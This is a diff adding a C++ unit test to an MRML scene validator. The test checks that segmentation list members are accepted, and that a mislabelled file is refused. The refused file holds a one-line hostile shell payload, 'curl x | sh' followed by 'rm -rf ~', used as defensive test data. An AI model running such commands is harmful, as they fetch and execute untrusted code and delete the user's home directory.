@@ -163,6 +163,45 @@ TEST(ValidateTest, PlainSceneDataFilesAreLookedUpNextToIt) {
   EXPECT_TRUE(r.status.ok());
 }
 
+// Issue 18: a .seg.vtm segmentation lists its .vtp blocks as fileListMembers
+// (vtkMRMLSegmentationStorageNode::AddPolyDataFileNames). They are read by
+// vtkXMLMultiBlockDataReader through the .seg.vtm, so SegmentationStorage's
+// extension list does not apply to them; their content still does.
+TEST(ValidateTest, SegmentationListMembersAreReadByTheirOwnReader) {
+  TempDir dir;
+  const std::string vtp =
+      "<?xml version=\"1.0\"?>\n<VTKFile type=\"PolyData\" version=\"1.0\" byte_order=\"LittleEndian\">"
+      "<PolyData><Piece NumberOfPoints=\"0\" NumberOfVerts=\"0\" NumberOfLines=\"0\" NumberOfStrips=\"0\""
+      " NumberOfPolys=\"0\"></Piece></PolyData></VTKFile>\n";
+  dir.Write("Seg.seg.vtm",
+            "<?xml version=\"1.0\"?>\n<VTKFile type=\"vtkMultiBlockDataSet\" version=\"1.0\">"
+            "<vtkMultiBlockDataSet><DataSet index=\"0\" file=\"Seg/Seg_0.vtp\"/></vtkMultiBlockDataSet></VTKFile>\n");
+  dir.Write("Seg/Seg_0.vtp", vtp);
+  auto scene = [](const std::string& member) {
+    return "<MRML version=\"Slicer4.8.1\">\n"
+           " <Segmentation id=\"vtkMRMLSegmentationNode1\" name=\"s\""
+           " storageNodeRef=\"vtkMRMLSegmentationStorageNode1\"></Segmentation>\n"
+           " <SegmentationStorage id=\"vtkMRMLSegmentationStorageNode1\" name=\"ss\" fileName=\"Seg.seg.vtm\""
+           " fileListMember0=\"Seg.seg.vtm\" fileListMember1=\"" +
+           member + "\"></SegmentationStorage>\n</MRML>\n";
+  };
+  Report ok = Validate(dir.Write("scene.mrml", scene("Seg/Seg_0.vtp")), Policy::Default());
+  EXPECT_TRUE(ok.accepted()) << Dump(ok);
+  EXPECT_FALSE(HasRule(ok, "data.magic-mismatch")) << Dump(ok);
+  // A member whose content is not what its extension says is still refused.
+  dir.Write("Seg/Seg_1.vtp", "#!/bin/sh\ncurl x | sh\nrm -rf ~\n");
+  Report bad = Validate(dir.Write("scene2.mrml", scene("Seg/Seg_1.vtp")), Policy::Default());
+  EXPECT_FALSE(bad.accepted()) << Dump(bad);
+  // As the storage node's fileName, a .vtp is not what SegmentationStorage reads.
+  std::string main_vtp = "<MRML version=\"Slicer4.8.1\">\n"
+                         " <Segmentation id=\"vtkMRMLSegmentationNode1\" name=\"s\""
+                         " storageNodeRef=\"vtkMRMLSegmentationStorageNode1\"></Segmentation>\n"
+                         " <SegmentationStorage id=\"vtkMRMLSegmentationStorageNode1\" name=\"ss\""
+                         " fileName=\"Seg/Seg_0.vtp\"></SegmentationStorage>\n</MRML>\n";
+  Report main = Validate(dir.Write("scene3.mrml", main_vtp), Policy::Default());
+  EXPECT_TRUE(HasRule(main, "data.magic-mismatch") || HasRule(main, "mrml.storage.extension")) << Dump(main);
+}
+
 TEST(ValidateTest, RealBundleIsAcceptedWithSlicersMainScene) {
   std::string path = std::string(MRMLGUARD_SOURCE_DIR) + "/corpus/bundles/cube.mrb";
   if (!fs::exists(path)) GTEST_SKIP() << "corpus/bundles/cube.mrb not present";
